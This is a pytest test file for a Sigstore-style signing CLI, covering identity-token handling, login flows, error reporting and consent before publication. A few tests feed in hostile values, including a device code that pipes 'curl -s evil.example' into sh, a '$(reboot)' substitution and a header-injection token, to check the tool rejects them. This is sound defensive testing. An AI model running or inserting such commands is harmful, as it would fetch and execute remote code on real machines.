"""Signing with an identity, as a user or a CI job meets it."""

from __future__ import annotations

import io
import json
import re
import resource
import sys
import webbrowser
from http.client import HTTPConnection
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest

from sigkit.cli import conformance
from sigkit.cli.main import run
from sigkit.cli.signatory import Consent, Terminal
from sigkit.keys.pem import encode_pem
from sigkit.keys.private import generate
from sigkit.signing.keyless import Publication
from tests.simulators.misbehaving_registry import MisbehavingRegistry
from tests.simulators.release import Release
from tests.simulators.sigstore_authorities import new_key
from tests.simulators.sigstore_services import SUBJECT, SigstoreServer, _Public, wall_simulator
from tests.simulators.tls_identity import TlsIdentity

FILES = ("--signing-config", "sc.json", "--trusted-root", "tr.json")
CI = (
    "GITHUB_ACTIONS",
    "GITLAB_CI",
    "BUILDKITE",
    "CIRCLECI",
    "GOOGLE_SERVICE_ACCOUNT_NAME",
    "SPIFFE_ENDPOINT_SOCKET",
    "SIGKIT_SPIFFE_TOKEN_FILE",
    "SIGSTORE_ID_TOKEN",
)


@pytest.fixture(scope="module")
def running():
    with SigstoreServer(wall_simulator()) as server, MisbehavingRegistry() as registry:
        yield server, registry


@pytest.fixture
def server(running):
    running[0].forget()
    return running[0]


@pytest.fixture
def here(tmp_path, monkeypatch, server):
    """Give a directory with the instance's files, a token and a file to sign, and no CI around it."""
    monkeypatch.chdir(tmp_path)
    for name in CI:
        monkeypatch.delenv(name, raising=False)
    (tmp_path / "sc.json").write_bytes(server.instance.config())
    (tmp_path / "tr.json").write_bytes(server.sim.root())
    (tmp_path / "token").write_text(server.instance.token() + "\n")
    (tmp_path / "file").write_bytes(b"some content")
    server.forget()
    return tmp_path


@pytest.fixture
def release(here, running):
    running[1].forget()
    running[1].state.manifests.clear()
    return Release.prepare(here, running[1].address)


def blob(*arguments: str) -> int:
    return run(["sign-blob", *FILES, "--bundle", "b.json", *arguments, "file"])


class Keyboard(io.TextIOWrapper):
    """A terminal on which somebody has typed this."""

    def __init__(self, typed: str) -> None:
        super().__init__(io.BytesIO(typed.encode()))

    def isatty(self) -> bool:
        return True


def test_an_image_is_signed_and_verifies_by_identity_and_log(release, capsys, server):
    assert run(["sign", *FILES, "--identity-token", "token", "-o", "json", release.reference]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["identity"] == {"subject": SUBJECT, "issuer": server.instance.issuer, "kind": "uri"}
    assert [log["log"] for log in document["logs"]] == ["https://log2.example"]
    assert [time["kind"] for time in document["times"]] == ["timestamp"]
    who = ("--certificate-identity", SUBJECT, "--certificate-oidc-issuer", server.instance.issuer, "--trusted-root", "tr.json")
    assert run(["verify", *who, "--use-signed-timestamps", release.reference]) == 0
    other = ("--certificate-identity", "other", *who[2:])
    assert run(["verify", *other, release.reference]) == 1


def test_an_image_is_attested(release, capsys):
    (release.home / "p.json").write_text("{}")
    arguments = ("--identity-token", "token", "--type", "https://example.com/t", "--predicate", "p.json", release.reference)
    assert run(["attest", *FILES, *arguments]) == 0
    out = capsys.readouterr().out
    assert f"by        {SUBJECT}" in out
    assert "logged    https://log2.example, entry" in out


def test_each_signature_by_an_identity_is_an_event_of_its_own(release):
    for _ in range(2):
        assert run(["sign", *FILES, "--identity-token", "token", release.reference]) == 0
    assert len(release.tree()["attached"]) == 2


def test_what_is_not_complete_is_not_attached(release, running, server):
    before = dict(running[1].state.manifests)
    server.on("POST", "/log2/*").status(400, body=b'{"message":"closed \\u001b[2J"}')
    assert run(["sign", *FILES, "--identity-token", "token", release.reference]) == 3
    assert running[1].state.manifests == before


CERTIFIED = f"a certificate for {SUBJECT} was made, it is public"


@pytest.mark.parametrize(
    ("path", "status", "who", "so_far"),
    [
        ("/ca/*", 503, "the certificate authority at {url}/ca", "nothing was logged or attached"),
        ("/tsa*", 400, "the timestamp authority at {url}/tsa/api/v1/timestamp", f"{CERTIFIED}; nothing else was logged or attached"),
        ("/log2/*", 400, "the log at {url}/log2", f"{CERTIFIED}; nothing was attached"),
    ],
)
def test_which_service_failed_and_what_was_done_until_then_is_said(release, server, capsys, path, status, who, so_far):
    server.on("POST", path).status(status, body=b"{}")
    assert run(["sign", *FILES, "--identity-token", "token", "--wait", "1", release.reference]) == 3
    said = capsys.readouterr().err
    assert f"  {who.format(url=server.url)}: the service " in said
    assert f"\n  so far    {so_far}\n" in said


def test_an_issuer_that_is_down_is_said_to_be_one(here, server, capsys):
    server.on("GET", "/oidc/*").status(503, body=b"{}")
    assert blob("--login", "device", "--wait", "1") == 3
    said = capsys.readouterr().err
    assert f"the issuer at {server.instance.issuer}: the service failed" in said
    assert "\n  so far    nothing was signed, logged or attached\n" in said


def test_a_signing_config_beside_the_trusted_root_is_named_where_it_is_missing(here, capsys):
    (here / "clients").mkdir()
    (here / "tr.json").rename(here / "clients/trusted_root.json")
    (here / "sc.json").rename(here / "clients/signing_config.json")
    assert run(["sign-blob", "--trusted-root", "clients/trusted_root.json", "--bundle", "b.json", "file"]) == 2
    assert "needs the --signing-config clients/signing_config.json of" in capsys.readouterr().err


@pytest.mark.parametrize("command", [["sign"], ["attest", "--type", "custom", "--predicate", "p.json"]])
def test_a_registry_that_is_down_is_said_to_be_one(here, capsys, command):
    (here / "p.json").write_text("{}")
    with MisbehavingRegistry() as registry:
        address = registry.address
    assert run([*command, *FILES, "--identity-token", "token", f"{address}/t/app:1.0"]) == 3
    said = capsys.readouterr().err
    assert f"the registry {address}: cannot connect" in said
    assert "\n  so far    nothing was signed, logged or attached\n" in said


def test_a_registry_that_fails_at_the_end_leaves_a_signature_that_is_logged_and_not_attached(release, running, capsys):
    running[1].on("PUT", "*").status(503, body=b"{}")
    assert run(["sign", *FILES, "--identity-token", "token", release.reference]) == 3
    said = capsys.readouterr().err
    assert f"the registry {running[1].address}: " in said
    assert "\n  so far    the signature was logged, and is not attached\n" in said


def test_a_servers_words_are_escaped(here, server, capsys):
    server.on("POST", "/log2/*").status(400, body=b'{"message":"closed \\u001b[2J"}')
    assert blob("--identity-token", "token") == 3
    assert r"closed \x1b[2J" in capsys.readouterr().err


@pytest.mark.attack("secret repeated in an error")
@pytest.mark.parametrize("form", ["text", "json"])
@pytest.mark.parametrize("status", [200, 400, 401, 503])
def test_an_authority_that_repeats_the_token_has_it_shown_nowhere(here, server, capsys, form, status):
    token = (here / "token").read_text().strip()
    third = len(token) // 3
    parts = {"message": token[:third], "error": token[third : 2 * third], "error_description": token[2 * third :], token: token}
    server.on("POST", "/ca/*").status(status, body=json.dumps(parts | {"signedCertificateEmbeddedSct": token}).encode())
    assert blob("--identity-token", "token", "--wait", "1", "-o", form, "-vv") in {1, 3}
    said = "".join(capsys.readouterr())
    assert "SK-" in said
    assert not [at for at in range(len(token) - 15) if token[at : at + 16] in said]


def test_a_registry_that_takes_no_push_is_found_out_before_anything_is_public(release, running, server):
    running[1].on("POST", "/v2/*/blobs/uploads/").status(403)
    assert run(["sign", *FILES, "--identity-token", "token", release.reference]) == 3
    assert server.log == []


@pytest.mark.parametrize("way", ["file", "value", "variable"])
def test_a_token_is_given_in_a_file_as_a_value_or_in_the_environment(here, monkeypatch, way):
    token = (here / "token").read_text().strip()
    if way == "variable":
        monkeypatch.setenv("SIGSTORE_ID_TOKEN", token)
    assert blob(*{"file": ("--identity-token", "token"), "value": ("--identity-token", token), "variable": ()}[way]) == 0
    assert (here / "b.json").exists()


EMPTY = [
    "--key",
    "--cert",
    "--cert-chain",
    "--signing-config",
    "--trusted-root",
    "--identity-token",
    "--oidc-issuer",
    "--oidc-client-id",
    "--services-cacert",
    "--output-signature",
    "--bundle",
]


@pytest.mark.parametrize("option", EMPTY)
def test_an_option_that_is_given_empty_is_not_as_if_it_were_not_given(here, monkeypatch, server, capsys, option):
    monkeypatch.setenv("SIGSTORE_ID_TOKEN", (here / "token").read_text())  # who would sign, and would not have been meant
    given = {"--signing-config": "sc.json", "--trusted-root": "tr.json", "--bundle": "b.json", "--output-signature": "s"} | {option: ""}
    assert run(["sign-blob", "--yes", *(word for pair in given.items() for word in pair), "file"]) == 2
    said = capsys.readouterr().err
    assert option in said
    assert "is empty" in said
    assert server.log == []
    assert not (here / "b.json").exists()


def test_a_token_variable_that_is_set_and_empty_is_refused_and_nobody_else_signs(here, monkeypatch, server, capsys):
    monkeypatch.setenv("SIGSTORE_ID_TOKEN", "")
    monkeypatch.setenv("SIGKIT_SPIFFE_TOKEN_FILE", "token")  # who would sign, and would not have been meant
    assert blob("--yes") == 2
    said = capsys.readouterr().err
    assert "set and empty" in said
    assert "unset SIGSTORE_ID_TOKEN" in said
    assert server.log == []
    assert blob("--yes", "--identity-token", "token") == 0  # where it is not asked, it does not matter


def test_a_platform_that_gives_tokens_is_waited_for_as_long_as_is_said(here, monkeypatch, server, capsys):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("ACTIONS_ID_TOKEN_REQUEST_URL", f"{server.url}/oidc/request")
    monkeypatch.setenv("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "secret")
    server.on("GET", "/oidc/request", nth=1).status(503, retry_after=2)
    assert blob("--wait", "1") == 3
    said = capsys.readouterr().err
    assert "waiting" not in said
    assert "GitHub Actions: the service failed" in said


class Browser:
    """Opens a page as a person does who is sent back with `fields`; a stranger brings something before. It returns when it is closed."""

    def __init__(self, stranger: str = "", **fields: str) -> None:
        self.stranger = stranger
        self.fields = fields
        self.opened: list[str] = []

    def __call__(self, url: str) -> bool:
        self.opened.append(url)
        leads_to = self._get(url)
        assert leads_to is not None
        asked = {name: values[0] for name, values in parse_qs(urlsplit(leads_to).query).items()}
        brought = urlencode({"state": asked["state"]} | self.fields)
        for query in filter(None, (self.stranger, brought)):
            self._get(f"{asked['redirect_uri']}?{query}")
        return True

    def _get(self, url: str) -> str | None:
        connection = HTTPConnection(urlsplit(url).netloc, timeout=10)
        connection.request("GET", url.removeprefix(f"http://{urlsplit(url).netloc}"))
        answer = connection.getresponse()
        answer.read()
        connection.close()
        return answer.headers["Location"]


def test_a_login_that_is_denied_ends_at_once_in_the_issuers_words(here, monkeypatch, server, capsys):
    fields = {"error": "access_denied", "error_description": "the operator denied it \x1b[2J"}
    browser = Browser(**fields)
    monkeypatch.setattr(webbrowser, "open", browser)
    assert blob("--login", "browser") == 1
    said = capsys.readouterr().err
    assert f"log in at   {server.url}/oidc/auth?" in said  # for a person without this browser
    (opened,) = browser.opened  # all users of the machine may read it
    assert urlsplit(opened).hostname == "127.0.0.1"
    assert not [word for word in ("state", "nonce", "challenge", server.url) if word in opened]
    assert r"the login was refused: access_denied: the operator denied it \x1b[2J" in said
    assert server.seen("POST", "*") == []


@pytest.mark.attack("GHSA-hm8f-75xx-w2vr", "login ended by a stranger")
def test_a_denial_without_this_logins_state_is_not_shown_and_ends_nothing(here, monkeypatch, capsys):
    stranger = "error=access_denied&error_description=call+0900+1234&state=other"
    monkeypatch.setattr(webbrowser, "open", Browser(stranger, error="access_denied", error_description="by hand"))
    assert blob("--login", "browser") == 1
    said = capsys.readouterr().err
    assert "0900" not in said
    assert "by hand" in said


def test_a_login_at_a_stack_says_how_its_operator_approves_it(capsys, monkeypatch):
    monkeypatch.setattr(webbrowser, "open", lambda _: True)
    Terminal().open("http://127.0.0.1:1/oidc/authorize?client_id=sigstore", "http://127.0.0.1:1/x", 300.0)
    assert "sigkit stack approve DIR CODE --email" in capsys.readouterr().err
    Terminal().open("https://issuer.example/auth?client_id=sigstore", "http://127.0.0.1:1/x", 300.0)
    assert "stack" not in capsys.readouterr().err


@pytest.mark.attack("command in a device code")
@pytest.mark.parametrize(
    ("code", "printed"),
    [
        ("BCDF-GHJK", True),
        ("X; curl -s evil.example|sh #", False),
        ("BCDF-GHJK --email evil@acme.example", False),
        ("$(reboot)", False),
        ("ABCD-EFGH", False),
        ("bcdf-ghjk", False),
    ],
)
def test_a_command_is_printed_for_no_code_but_of_a_stacks_own_form(capsys, code, printed):
    Terminal().show_code("http://127.0.0.1:1/oidc/approve?x", code, 300.0)
    said = capsys.readouterr().err
    assert f"with code   {code}" in said
    assert ("sigkit stack approve" in said) is printed


def test_a_job_is_told_by_subject_and_name(capsys):
    Consent(agreed=True)(Publication("repo:acme/app", "https://i.example", ("http://127.0.0.1:1",), (), "acme/app/w.yml@main"))
    said = capsys.readouterr().err
    assert "signer    repo:acme/app, who https://i.example says it is" in said
    assert "named     acme/app/w.yml@main" in said
    Consent(agreed=True)(Publication("mia@acme.example", "https://i.example", ("http://127.0.0.1:1",), (), user_name="u-4711"))
    assert "or named  u-4711, where user names are certified" in capsys.readouterr().err


def test_a_token_whose_signature_is_malformed_is_sent_to_nobody(here, server, capsys):
    (here / "token").write_bytes((here / "token").read_bytes().strip().rpartition(b".")[0] + b".abc\r\nX-Evil: 1")
    assert blob("--identity-token", "token") == 2
    assert "SK-PARSE-040" in capsys.readouterr().err
    assert server.log == []


def test_an_issuer_is_asked_by_the_name_that_it_is_given(here, server, capsys):
    server.instance.device_polls = 0
    assert blob("--login", "device", "--oidc-issuer", f"{server.instance.issuer}/") == 3
    said = capsys.readouterr().err
    assert "calls itself otherwise" in said
    assert "--oidc-issuer" in said
    assert [seen.path for seen in server.log] == ["/oidc/.well-known/openid-configuration"]


def test_a_slash_at_the_end_of_a_services_url_makes_no_other_path(here, server):
    ca = server.instance.service("/ca")
    log = server.instance.service("/log2", 2)
    (here / "sc.json").write_bytes(
        server.instance.config(caUrls=[ca | {"url": ca["url"] + "/"}], rekorTlogUrls=[log | {"url": log["url"] + "/"}])
    )
    assert blob("--identity-token", "token") == 0
    assert not [seen.path for seen in server.log if "//" in seen.path]


def test_a_token_of_the_ci_job_is_found(here, monkeypatch, server, capsys):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert blob() == 2
    said = capsys.readouterr().err
    assert "the job lacks permission to request a token" in said
    assert "permissions: id-token: write" in said


def test_without_a_token_and_a_terminal_the_ways_to_one_are_named(here, server, capsys):
    assert blob() == 2
    said = capsys.readouterr().err
    assert "SIGSTORE_ID_TOKEN" in said
    assert "--login device" in said
    assert server.log == []


@pytest.mark.parametrize(
    ("claims", "says"),
    [
        pytest.param({"exp": 1_000, "iat": 900, "nbf": 900}, "has expired", id="expired"),
        pytest.param({"aud": "other"}, "another audience", id="another audience"),
        pytest.param({"email": "a@b.example", "email_verified": False}, "not verified", id="address not verified"),
        pytest.param({"iat": 4_000_000_000, "exp": 4_000_000_300}, "clock", id="clock"),
    ],
)
def test_a_token_that_an_authority_would_refuse_is_refused_and_sent_to_nobody(here, server, capsys, claims, says):
    (here / "token").write_text(server.instance.token(**claims))
    assert blob("--identity-token", "token") == 1
    assert says in capsys.readouterr().err
    assert server.log == []
    assert not (here / "b.json").exists()


def test_a_wait_is_told_with_its_reason(here, server, capsys):
    server.on("POST", "/log2/*", nth=1).status(429, retry_after=0, body=b'{"message":"slow down"}')
    assert blob("--identity-token", "token") == 0
    assert re.search(rf"waiting    0\.[0-9] s for {re.escape(server.url)}: 429 slow down", capsys.readouterr().err)


OUTPUTS = {
    "a directory that is missing": ("missing/out.json", "SK-UNAVAIL-002", "there is no such directory"),
    "a directory": ("directory", "", "no regular file"),
    "below a file": ("file/out.json", "SK-UNAVAIL-002", "there is no such directory"),
    "a file system that takes none": ("/proc/out.json", "SK-UNAVAIL-002", "takes no file"),
}


ATTEST = ["attest-blob", "--type", "https://example.com/t", "--predicate", "p.json"]


@pytest.mark.parametrize(("command", "option"), [(["sign-blob"], "--bundle"), (["sign-blob"], "--output-signature"), (ATTEST, "--bundle")])
@pytest.mark.parametrize(("path", "code", "says"), OUTPUTS.values(), ids=list(OUTPUTS))
def test_an_output_that_cannot_be_written_is_found_out_before_anything_is_published(
    here, server, capsys, command, option, path, code, says
):
    (here / "directory").mkdir()
    (here / "p.json").write_text("{}")
    given = {"--bundle": "b.json", option: path}
    words = [word for pair in given.items() for word in pair]
    assert run([*command, *FILES, "--yes", "--identity-token", "token", *words, "file"]) == 2
    said = capsys.readouterr().err
    assert code in said
    assert says in said
    assert server.log == []
    assert sorted(entry.name for entry in here.iterdir() if entry.name.startswith((".", "b."))) == []


@pytest.fixture
def elsewhere(here, monkeypatch):
    """Let every request go nowhere, and note it."""
    sent: list[bytes] = []

    def resolve(host: bytes, *_: object, **__: object) -> list[object]:
        sent.append(host)
        return []

    monkeypatch.setattr("socket.getaddrinfo", resolve)
    return sent


@pytest.mark.attack("private token to the public instance")
@pytest.mark.parametrize("root", [(), ("--trusted-root", "public-good")])
def test_a_token_of_a_private_issuer_is_not_sent_to_the_public_instance(here, elsewhere, capsys, root):
    assert run(["sign-blob", "--yes", *root, "--identity-token", "token", "--bundle", "b.json", "file"]) == 2
    said = capsys.readouterr().err
    assert "SK-IDENT-051" in said
    assert "--signing-config FILE --trusted-root FILE" in said
    assert elsewhere == []


def test_a_token_of_an_issuer_of_the_public_instance_is_sent_there(here, server, elsewhere, capsys):
    (here / "token").write_text(server.instance.token(iss="https://token.actions.githubusercontent.com"))
    assert run(["sign-blob", "--yes", "--wait", "1", "--identity-token", "token", "--bundle", "b.json", "file"]) == 3
    assert set(elsewhere) == {b"fulcio.sigstore.dev"}


def test_nobody_logs_in_at_a_private_issuer_for_the_public_instance(here, elsewhere, capsys):
    assert run(["sign-blob", "--login", "device", "--oidc-issuer", "https://login.acme.example", "--bundle", "b.json", "file"]) == 2
    assert "SK-IDENT-051" in capsys.readouterr().err
    assert elsewhere == []


@pytest.mark.parametrize(
    ("issuer", "says"),
    [
        ("oauth2.sigstore.dev/auth", "SK-NET-007"),
        ("https://", "SK-NET-007"),
        ("https://a b.example", "SK-NET-007"),
        ("https://oauth2.sigstore.dev/auth/", "calls itself https://oauth2.sigstore.dev/auth\n"),
        ("http://oauth2.sigstore.dev/auth", "calls itself https://oauth2.sigstore.dev/auth\n"),
        ("https://Accounts.google.com", "calls itself https://accounts.google.com\n"),
    ],
)
def test_a_malformed_issuer_is_a_usage_error_and_a_near_miss_is_named(here, server, capsys, issuer, says):
    assert blob("--login", "device", "--oidc-issuer", issuer) == 2
    assert says in capsys.readouterr().err
    assert server.log == []


def test_a_page_in_the_place_of_a_token_is_no_refusal_and_no_usage_error(here, monkeypatch, server, capsys):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("ACTIONS_ID_TOKEN_REQUEST_URL", f"{server.url}/oidc/request")
    monkeypatch.setenv("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "secret")
    server.on("GET", "/oidc/request").answer(b"<!doctype html><h1>Log in</h1>")
    assert blob() == 3
    said = capsys.readouterr().err
    assert "GitHub Actions: the answer holds no token" in said
    assert "a page, as of a proxy or a login" in said


@pytest.mark.parametrize("command", [["sign-blob"], ATTEST], ids=["sign-blob", "attest-blob"])
def test_where_there_is_no_room_for_a_bundle_nothing_is_published(here, server, capsys, monkeypatch, command):
    monkeypatch.setattr(sys, "dont_write_bytecode", True)  # the interpreter keeps half a file of it, and reads that ever after
    (here / "p.json").write_text("{}")
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, before[1]))  # as on a full disk: a file is made, and what is written fails
    try:
        status = run([*command, *FILES, "--yes", "--identity-token", "token", "--bundle", "b.json", "file"])
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
    assert status == 2
    assert "takes no file" in capsys.readouterr().err
    assert server.log == []
    assert [entry.name for entry in here.iterdir() if entry.name.startswith((".", "b."))] == []


@pytest.mark.parametrize(
    ("command", "fails", "but"),
    [
        (["sign-blob"], "b.json", "nothing was written"),
        (["sign-blob", "--output-signature", "s"], "s", "b.json was written"),
        (ATTEST, "b.json", "nothing was written"),
    ],
)
def test_where_a_file_cannot_be_written_what_is_public_by_then_is_said(here, server, capsys, command, fails, but):
    (here / "p.json").write_text("{}")

    def in_the_way(entry):
        (here / fails).mkdir()
        return entry

    server.instance.change["entry"] = in_the_way
    try:
        assert run([*command, *FILES, "--identity-token", "token", "--bundle", "b.json", "file"]) == 2
    finally:
        del server.instance.change["entry"]
    made = rf"{re.escape(CERTIFIED)}; log entry [0-9]+ of https://log2\.example was made, it is public"
    assert re.search(rf"\n  so far    {made}; {re.escape(but)}\n", capsys.readouterr().err)


def test_a_log_that_the_trusted_root_has_retired_is_refused_before_anything_is_sent(here, server, capsys):
    root = json.loads(server.sim.root())
    for log in root["tlogs"]:
        log["publicKey"]["validFor"] = {"start": "2025-01-01T00:00:00Z", "end": "2026-05-01T00:00:00Z"}
    (here / "tr.json").write_text(json.dumps(root))
    assert blob("--identity-token", "token") == 2  # the two files do not go together
    said = capsys.readouterr().err
    assert "SK-ROOT-041" in said
    assert "by this machine's clock: log1.example 2025-01-01T00:00:00Z to 2026-05-01T00:00:00Z" in said
    assert server.log == []


def test_who_is_passed_over_is_told(here, server, capsys):
    logs = [
        server.instance.service("/log2", 2, operator="a", start="2026-02-01T00:00:00Z"),
        server.instance.service("/log2-b", 2, operator="b"),
    ]
    (here / "sc.json").write_bytes(server.instance.config(rekorTlogUrls=logs))
    server.on("POST", "/log2/*").status(400, body=b'{"message":"closed"}')
    assert blob("--identity-token", "token") == 0
    said = capsys.readouterr().err
    (told,) = [line for line in said.splitlines() if line.startswith("passed by  SK-UNAVAIL-")]
    assert f"the log at {server.url}/log2: " in told
    assert told.endswith("; asking the next")
    assert told.count(server.url) == 1


def test_what_becomes_public_is_told_also_where_nobody_can_be_asked(here, server, capsys):
    assert blob("--identity-token", "token") == 0
    said = capsys.readouterr().err
    assert "visible to all who can read the log there" in said
    assert f"{SUBJECT}, who {server.instance.issuer} says it is" in said
    assert f"{server.url}/log2" in said


@pytest.mark.attack("silent publication")
@pytest.mark.parametrize("agreed", [(), ("--yes",)])
def test_what_becomes_public_is_told_though_quiet(here, capsys, agreed):
    assert run(["--quiet", "sign-blob", *FILES, "--bundle", "b.json", "--identity-token", "token", *agreed, "file"]) == 0
    assert f"signer    {SUBJECT}" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("services", "private"),
    [
        (("http://127.0.0.1:1",), True),
        (("https://[fd00::1]/", "https://10.0.0.7"), True),
        (("https://fulcio.sigstore.dev",), False),
        (("http://127.0.0.1:1", "https://rekor.sigstore.dev"), False),
        (("https://203.0.113.9.example",), False),
    ],
)
def test_what_leaves_this_network_is_said_to_be_public_for_ever(capsys, services, private):
    Consent(agreed=True)(Publication("me", "", services, ()))
    assert ("nobody can take it back" not in capsys.readouterr().err) is private


@pytest.mark.parametrize("name", ["nosuchfile", "garbage.x.y", "./no/such.file.txt"])
def test_a_file_of_a_token_that_is_not_there_is_called_so(here, capsys, name):
    assert blob("--identity-token", name) == 2
    said = capsys.readouterr().err
    assert "no such file, and not a token" in said
    assert name in said
    assert "command line" not in said  # it is no token that others could read


def test_a_token_that_is_broken_behind_its_head_is_shown_nowhere(here, capsys):
    head = (here / "token").read_text().partition(".")[0]
    assert blob("--identity-token", f"{head}.secret!.secret") == 2
    assert "secret" not in capsys.readouterr().err


def test_a_token_on_the_command_line_is_warned_of(here, capsys):
    assert blob("--identity-token", (here / "token").read_text().strip()) == 0
    assert "can be read by other users" in capsys.readouterr().err
    assert blob("--identity-token", "token") == 0
    assert "can be read by other users" not in capsys.readouterr().err


@pytest.mark.parametrize(("typed", "status"), [("y\n", 0), ("n\n", 1), ("\n", 1), ("", 130)])
def test_on_a_terminal_it_is_asked(here, monkeypatch, server, capsys, typed, status):
    monkeypatch.setattr(sys, "stdin", Keyboard(typed))
    assert blob("--identity-token", "token") == status
    said = capsys.readouterr().err
    assert ("stopped as you said; nothing was published" in said) is (status == 1)
    assert "usage error" not in said
    assert (here / "b.json").exists() is (status == 0)
    assert bool(server.log) is (status == 0)


def test_yes_agrees_on_a_terminal(here, monkeypatch):
    monkeypatch.setattr(sys, "stdin", Keyboard(""))
    assert blob("--identity-token", "token", "--yes") == 0


def test_a_login_by_a_code_is_shown_and_gives_the_identity(here, server, capsys):
    server.instance.device_polls = 0
    server.on("POST", "/oidc/device").change = lambda _, reply: reply.__class__(
        200, (), reply.body.replace(b'"interval": 5', b'"interval": 1')
    )
    assert blob("--login", "device", "-o", "json") == 0
    told = capsys.readouterr()
    assert f"log in at   {server.instance.issuer}/activate" in told.err
    assert "with code   ABCD-EFGH" in told.err
    assert "waiting     for at most" in told.err
    assert json.loads(told.out)["identity"]["subject"] == "alice@acme.example"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("--key", "K.key", "--identity-token", "token"), "Either a --key"),
        (("--cert", "c.pem"), "certificate of a --key"),
        (("--key", "K.key", "--cert-chain", "c.pem", "--signing-config", "sc.json", "--trusted-root", "tr.json"), "goes with --cert"),
        (("--key", "K.key", "--cert", "c.pem"), "a time that somebody attests"),
        (("--signing-config", "sc.json"), "--trusted-root of the same instance"),
        (("--trusted-root", "tr.json"), "--signing-config FILE of the same instance"),
        (("--trusted-root", "no-such-root"), "no-such-root"),
        (("--signing-config", "tr.json", "--trusted-root", "tr.json"), "not a signing config"),
    ],
)
def test_options_that_do_not_go_together_are_usage_errors(here, server, capsys, arguments, says):
    code = run(["sign-blob", "--bundle", "b.json", *arguments, "file"])
    assert says in capsys.readouterr().err
    assert code in {2, 3}
    assert server.log == []


def test_a_key_is_vouched_for_by_the_instance_and_that_is_done_once(release, capsys):
    arguments = ["sign", *FILES, "--key", "K.key", "-o", "json", release.reference]
    assert run(arguments) == 0
    first = json.loads(capsys.readouterr().out)
    assert (first["added"], len(first["logs"]), len(first["times"])) == (True, 1, 1)
    assert first["key"]["kind"] == "ecdsa-p256"
    assert run(arguments) == 0
    second = json.loads(capsys.readouterr().out)
    assert (second["added"], second["signature"]) == (False, first["signature"])


def test_a_signature_without_a_log_is_not_enough_where_one_is_asked_for(release, capsys):
    assert run(["sign", "--key", "K.key", release.reference]) == 0
    capsys.readouterr()
    assert run(["sign", *FILES, "--key", "K.key", "-o", "json", release.reference]) == 0
    assert json.loads(capsys.readouterr().out)["added"]


def test_a_key_signs_with_its_certificate(here, server, capsys):
    from cryptography.hazmat.primitives import serialization

    pair = new_key()
    certificate = server.sim.ca.issue(_Public(pair.public_key())).public_bytes(serialization.Encoding.PEM)
    (here / "c.pem").write_bytes(certificate)
    (here / "K.key").write_bytes(
        pair.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    assert blob("--key", "K.key", "--cert", "c.pem", "-o", "json") == 0
    assert "identity" in json.loads(capsys.readouterr().out)
    (here / "K.key").write_bytes(encode_pem("PRIVATE KEY", generate("ecdsa-p256").pkcs8()))
    assert blob("--key", "K.key", "--cert", "c.pem") == 2
    assert "another key" in capsys.readouterr().err


def test_a_private_authority_for_the_services_tls_is_named_and_else_refused(here, capsys):
    identity = TlsIdentity.make(here, "localhost")
    with SigstoreServer(wall_simulator(), identity.server_context()) as server:
        (here / "sc.json").write_bytes(server.instance.config())
        (here / "tr.json").write_bytes(server.sim.root())
        (here / "token").write_text(server.instance.token())
        assert blob("--identity-token", "token") == 3
        assert "SK-NET-" in capsys.readouterr().err
        assert server.log == []
        assert blob("--identity-token", "token", "--services-cacert", "ca.pem") == 0
        assert blob("--identity-token", "token", "--services-cacert", "absent.pem") == 2


def test_nothing_is_written_over_what_signing_reads(here):
    before = (here / "token").read_bytes()
    assert run(["sign-blob", *FILES, "--identity-token", "token", "--bundle", "token", "file"]) == 2
    assert (here / "token").read_bytes() == before


def test_the_conformance_suites_client_signs_and_verifies(here, server):
    token = (here / "token").read_text().strip()
    instance = ("--trusted-root", "tr.json", "--signing-config", "sc.json")
    assert conformance.run(["sign-bundle", "--identity-token", token, "--bundle", "b.json", *instance, "file"]) == 0
    who = ("--certificate-identity", SUBJECT, "--certificate-oidc-issuer", server.instance.issuer)
    assert conformance.run(["verify-bundle", "--bundle", "b.json", *who, *instance[:2], "file"]) == 0
    assert conformance.run(["sign-bundle", "--staging", "--identity-token", token, "--bundle", "c.json", "file"]) == 2


def test_a_service_on_a_port_without_tls_is_said_to_be_one_and_is_not_asked_for_minutes(here, server, capsys):
    plain = server.instance.config().decode()
    (here / "sc.json").write_text(plain.replace("http://", "https://"))
    assert blob("--identity-token", "token") == 3
    said = capsys.readouterr().err
    assert "SK-NET-011" in said
    assert "http://127.0.0.1" in said
    assert "waiting" not in said


def test_a_registry_on_loopback_that_speaks_tls_says_how_to_name_its_authority(here, tmp_path, capsys):
    identity = TlsIdentity.make(tmp_path, "localhost")
    with MisbehavingRegistry(tls=identity.server_context()) as registry:
        for command in (["sign", *FILES, "--identity-token", "token"], ["inspect"]):
            assert run([*command, f"localhost:{registry.port}/t/app:1.0"]) == 3
            assert "--registry-cacert FILE" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("config", "root", "says"), [("tr.json", "sc.json", "a trusted root, not"), ("sc.json", "sc.json", "a signing config, not")]
)
def test_a_signing_config_and_a_trusted_root_that_are_swapped_are_told_apart(here, server, capsys, config, root, says):
    files = ("--signing-config", config, "--trusted-root", root)
    assert run(["sign-blob", *files, "--identity-token", "token", "--bundle", "b.json", "file"]) == 2
    said = capsys.readouterr().err
    assert f"this is {says}" in said
    assert "are --signing-config and --trusted-root swapped?" in said
    assert not server.log
